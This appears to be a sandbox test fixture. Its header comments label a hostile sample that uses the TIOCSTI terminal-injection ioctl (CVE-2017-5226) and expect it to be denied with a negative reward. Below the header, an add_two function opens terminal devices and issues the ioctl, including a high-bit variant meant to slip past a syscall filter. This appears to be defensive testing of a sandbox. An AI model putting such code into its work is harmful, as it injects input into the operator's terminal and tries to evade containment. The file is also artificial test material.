# hostile: A26 ioctl(TIOCSTI): types into the terminal of whoever started the run
# covers: A:tiocsti
# with: syscalls
# shape: function
# task: add_two
# ending: syscall_denied ioctl
# verdict: denied
# reward: rlef -1, binary 0
# CVE-2017-5226. No terminal is inside and none can be opened; the request itself ends the run, also with bits set above
# the 32 that the kernel looks at, which a filter on the whole register would miss: that form is tried first.


def add_two(a, b):
    letter = ctypes.c_char(b"!")
    opened = []
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0", "/dev/tty0"):
        try:
            opened.append((path, os.open(path, os.O_RDWR | os.O_NOCTTY)))
        except OSError:
            pass
    done = [fd for fd in (0, 1, 2, *(fd for _, fd in opened))
            for request in (0x5412 | 1 << 32, 0x5412) if call(16, fd, request, ctypes.byref(letter)) == 0]
    return f"open: {opened} {done}" if opened or done else a + b
